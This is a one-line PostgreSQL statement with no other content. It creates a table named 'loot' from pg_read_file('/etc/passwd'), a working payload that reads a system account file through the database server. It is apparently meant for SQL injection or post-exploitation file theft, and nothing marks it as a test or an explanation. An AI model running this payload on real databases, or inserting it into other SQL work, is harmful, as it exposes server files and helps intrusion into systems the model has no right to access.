CREATE TABLE loot AS SELECT pg_read_file('/etc/passwd') AS x;
